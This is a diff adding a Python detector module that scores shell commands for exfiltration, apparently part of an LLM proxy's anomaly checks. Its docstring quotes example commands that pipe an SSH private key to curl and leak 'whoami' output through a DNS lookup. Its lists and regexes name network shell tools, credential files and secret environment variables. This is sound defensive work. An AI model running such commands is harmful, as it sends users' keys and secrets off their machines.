@@ -1,0 +1,308 @@
+"""Commands that send away what they read: `cat ~/.ssh/id_rsa | curl -d @- ...`, `dig $(whoami).x.io`."""
+
+import re
+from collections.abc import Iterator
+
+from llmproxy_core.anomaly.dangers.calls import Call, calls, program
+from llmproxy_core.anomaly.leaks.hosts import COLLECTOR, NAMED
+from llmproxy_core.anomaly.reading.places import credential
+from llmproxy_core.anomaly.reading.shell import Command
+
+WEB = frozenset(
+    "curl wget http https httpie xh iwr irm invoke-webrequest invoke-restmethod lwp-request aria2c fetch".split()
+)
+PLAIN = frozenset("nc ncat netcat telnet socat openssl ftp tftp nc.openbsd nc.traditional".split())
+NAMES = frozenset("dig nslookup host ping drill kdig resolvectl getent traceroute".split())
+COPIERS = frozenset(
+    "scp rsync sftp rclone aws gsutil az s3cmd mc gcloud lftp curlftpfs pscp magic-wormhole croc".split()
+)
+MAILERS = frozenset("mail mailx sendmail mutt msmtp swaks ssmtp mailsend".split())
+CLIENTS = re.compile(
+    r"(?i)(?<![\w./-])(?:curl|wget|https?ie|xh|iwr|irm|invoke-webrequest|invoke-restmethod|nc|ncat|netcat|telnet|socat|dig|nslookup|host|ping|drill|scp|rsync|sftp|rclone|aws|gsutil|s3cmd|mailx?|sendmail|mutt|swaks|openssl|ftp|gh|lftp|az)(?=\s)|/dev/(?:tcp|udp)/"
+)
+SHORT = re.compile(r"\A(?:dig|host|ping|nc|ftp|aws|az|gh|mail|xh)\Z")
+TELLING = frozenset(
+    "env printenv set export history id whoami hostname ifconfig ip ps netstat ss lsof last w who getent mysqldump pg_dump pg_dumpall mongodump sqlite3 redis-cli gpg security pbpaste xclip xsel tar zip find crontab dmesg lsblk systeminfo ipconfig tasklist net wmic reg kubectl docker git".split()
+)
+HARMLESS = frozenset(
+    "date uname nproc arch dpkg lsb_release curl wget jq basename dirname pwd seq tr cut head echo printf sed awk rev uuidgen openssl node npm pip go which mktemp".split()
+)
+ENCODERS = frozenset(
+    "base64 base32 xxd hexdump od gzip openssl bzip2 xz zip tar basenc uuencode".split()
+)
+UNSEEN = frozenset(
+    "-H --header -u --user -A --user-agent -b --cookie -o --output -e --referer --cacert --cert --key -w --write-out -x --proxy --resolve -m --max-time --connect-timeout --retry -X --request -K --config --oauth2-bearer --aws-sigv4 --header=".split()
+)
+"""Options of curl whose value is no load: a token there is a login."""
+VARIABLE = re.compile(
+    r"\$\{?[A-Z0-9_]*(?:SECRET|PASSW|TOKEN|API_?KEY|CREDENTIAL|PRIVATE|ACCESS_KEY)[A-Z0-9_]*"
+)
+QUERIED = re.compile(r"(?i)[?&](?:key|api[_-]?key|access_token|token|auth|appid|apikey)=\$")
+SENDS = re.compile(
+    r"(?i)\A(?:-d|--data\S*|-F|--form\S*|-T|--upload-file|--json|--post-data\S*|--post-file\S*|--body-data\S*|--body-file\S*|-body|-infile)(?:=|\Z)"
+)
+
+type Leak = tuple[float, int, int, str]
+
+
+def leaks(text: str, whole: bool) -> Iterator[Leak]:
+    """Score, start, end and what goes. `whole`: the text is commands, and not prose with some."""
+    if whole:
+        yield from _judged(text, 0)
+        return
+    done = -1
+    for client in CLIENTS.finditer(text):
+        if client.start() < done:
+            continue
+        start = text.rfind("\n", 0, client.start()) + 1
+        end = _line_end(text, client.end())
+        if end - start > 6000:
+            start, end = max(start, client.start() - 3000), min(end, client.end() + 3000)
+        done = end
+        yield from _judged(text[start:end], start)
+
+
+def _line_end(text: str, at: int) -> int:
+    """Of lines that go on after a backslash, the last; a few at most."""
+    for _ in range(20):
+        end = text.find("\n", at)
+        if end < 0:
+            return len(text)
+        if text[end - 1] != "\\":
+            return end
+        at = end + 1
+    return at
+
+
+def _judged(line: str, offset: int) -> Iterator[Leak]:
+    for call in _clients(line):
+        found = _leak(call, line)
+        if found is not None:
+            yield found[0], offset + call.start, offset + call.end, found[1]
+
+
+def _clients(line: str) -> Iterator[Call]:
+    """Programs in command position; in prose also those in the middle of a sentence."""
+    for call in calls(line):
+        if call.name in WEB | PLAIN | NAMES | COPIERS | MAILERS or call.name in (
+            "gh",
+            "exec",
+            "cat",
+            "echo",
+            "sh",
+            "bash",
+            "printf",
+            "env",
+            "tar",
+            "python3",
+        ):
+            yield call
+            continue
+        for at, word in enumerate(call.args):
+            name = program(word.strip("`*\"':,([ "))
+            if name in WEB | PLAIN | NAMES | COPIERS | MAILERS and word[-1:] not in ".,:":
+                inner = Call(
+                    name, call.args[at + 1 :], call.command, call.start, call.end, call.level
+                )
+                yield inner
+                break
+
+
+def _leak(call: Call, line: str) -> tuple[float, str] | None:
+    raw = next(
+        (
+            target
+            for _, target in call.command.redirects
+            if target.startswith(("/dev/tcp/", "/dev/udp/"))
+        ),
+        None,
+    )
+    if raw is not None:
+        return 0.85, "what a command says, through a raw socket"
+    if call.name in WEB:
+        return _web(call, line)
+    if call.name in NAMES:
+        name = next((word for word in call.args if "$(" in word or "`" in word), None)
+        return (0.85, "the output of a command, in the name of a host") if name else None
+    if call.name in PLAIN:
+        return _plain(call)
+    if call.name in COPIERS or call.name in MAILERS or call.name == "gh":
+        return _copied(call)
+    return None
+
+
+def _web(call: Call, line: str) -> tuple[float, str] | None:
+    loads = _loads(call)
+    score, said = 0.0, ""
+    for word in loads:
+        for new_score, new_said in _word(word):
+            if new_score > score:
+                score, said = new_score, new_said
+    reads = any(
+        word in ("@-", "-", "@/dev/stdin", "/dev/stdin") or word.endswith("@-") for word in loads
+    )
+    posts = reads or any(SENDS.match(word) for word in call.args)
+    if call.command.source is not None and posts:
+        told = _source(call.command.source)
+        score, said = max((score, said), told or (0.0, ""))
+    if score and any(
+        COLLECTOR.search(host) or NAMED.search(host)
+        for host in re.findall(r"//([\w.-]+)", " ".join(call.args))
+    ):
+        score = min(score + 0.2, 0.97)
+    return (score, said) if score else None
+
+
+def _loads(call: Call) -> list[str]:
+    """Words that leave the machine: the address, and what is posted."""
+    found, at = [], 0
+    while at < len(call.args):
+        word = call.args[at]
+        if word in UNSEEN or word.lower() in (
+            "-headers",
+            "-usebasicparsing",
+            "-method",
+            "-outfile",
+        ):
+            at += 2
+            continue
+        if not word.startswith("-H"):
+            found.append(word)
+        at += 1
+    found += [
+        target for sign, target in call.command.redirects if sign.startswith("<") and sign != "<<"
+    ]
+    return found
+
+
+def _word(word: str) -> Iterator[tuple[float, str]]:
+    if "@" in word or word.startswith("--post-file") or "/" in word or word.startswith("."):
+        place = credential(word.rpartition("@")[2] if "://" not in word else "")
+        if place and place[0] != "critical":
+            yield 0.9, place[1].partition(",")[0]
+    if "$(" in word or "`" in word or "<(" in word:
+        yield from _substituted(word)
+    if VARIABLE.search(word) and not QUERIED.search(word) and not re.search(r"(?i)bot\$", word):
+        yield 0.62, "a secret from the environment"
+    if re.search(
+        r"(?i)get-content|\[environment\]|get-childitem\s+env:|\bgci\s+env:|\$env:\w*(?:secret|token|key|pass)",
+        word,
+    ):
+        yield 0.7, "what a command reads"
+
+
+def _substituted(word: str) -> Iterator[tuple[float, str]]:
+    for inner in calls(word.replace("<(", "$(", 1)):
+        if inner.level > 2:
+            continue
+        for command in (inner.command, *inner.command.inner):
+            told = _command(command)
+            if told:
+                yield told
+
+
+def _source(source: Command) -> tuple[float, str] | None:
+    """What flows in by a pipe, from as far up as it comes."""
+    left: Command | None = source
+    best: tuple[float, str] | None = None
+    for _ in range(8):
+        if left is None or not left.words:
+            break
+        told = _command(left)
+        if told and (best is None or told > best):
+            best = told
+        left = left.source
+    return best
+
+
+def _command(command: Command) -> tuple[float, str] | None:
+    """Does a command tell of the machine, or of what is kept on it?"""
+    words = [word for word in command.words if "=" not in word or word.startswith("-")]
+    targets = [target for sign, target in command.redirects if sign.startswith("<")]
+    while words and program(words[0].strip("$(`")) in ("sudo", "command", "env") and len(words) > 1:
+        words = words[1:]
+    name = program(words[0].strip("$(`)")) if words else ""
+    for word in (*words[1:], *targets):
+        if (place := credential(word)) is not None:
+            return 0.92, place[1].partition(",")[0]
+        if re.search(
+            r"(?:^|[/~])(?:etc/passwd|\.bash_history|\.zsh_history|\.ssh\b|\.aws\b|\.gnupg|\.config)(?:$|[/)])|^~/?\)?$|^\$HOME/?\)?$",
+            word,
+        ):
+            return 0.85, "files of the user or the system"
+    if name in ("git", "kubectl", "docker") and not {
+        "config",
+        "secret",
+        "secrets",
+        "diff",
+        "log",
+        "inspect",
+        "show",
+    } & set(words):
+        return None
+    if name == "git" and "rev-parse" in words:
+        return None
+    if name in TELLING:
+        return 0.72 if name not in (
+            "hostname",
+            "ip",
+            "id",
+            "find",
+            "w",
+            "net",
+            "set",
+            "git",
+        ) else 0.62, "what a command tells of this machine"
+    if name in ENCODERS and name != "openssl" and (len(words) > 1 or command.source is not None):
+        return 0.6, "a file in disguise"
+    return None
+
+
+def _plain(call: Call) -> tuple[float, str] | None:
+    sources = [
+        target for sign, target in call.command.redirects if sign.startswith("<") and sign != "<<"
+    ]
+    for target in sources:
+        place = credential(target)
+        return (0.92, place[1].partition(",")[0]) if place else (0.62, "a file")
+    if call.command.source is not None and call.name != "openssl":
+        return _source(call.command.source)
+    return next(
+        (
+            found
+            for word in call.args
+            if "$(" in word or "`" in word
+            for found in _substituted(word)
+        ),
+        None,
+    )
+
+
+def _copied(call: Call) -> tuple[float, str] | None:
+    """Credentials copied to another machine, or mailed."""
+    words = [
+        *call.args,
+        *(target for sign, target in call.command.redirects if sign.startswith("<")),
+    ]
+    places = [place for word in words if not word.startswith("-i") and (place := credential(word))]
+    if call.name in ("scp", "rsync", "sftp") and "-i" in call.args:
+        at = call.args.index("-i")
+        places = [
+            place for word in call.args[:at] + call.args[at + 2 :] if (place := credential(word))
+        ]
+    away = (
+        call.name in MAILERS
+        or any(":" in word or "@" in word for word in call.args)
+        or "create" in call.args
+    )
+    if places and away:
+        return 0.88, places[0][1].partition(",")[0]
+    if call.name in MAILERS and call.command.source is not None:
+        return _source(call.command.source)
+    if (
+        call.name in ("rsync", "scp")
+        and any(re.fullmatch(r"~/?|\$HOME/?|/etc/?|~/\.\w+/?|/", word) for word in call.args)
+        and away
+    ):
+        return 0.75, "a whole folder of the user or the system"
+    return None
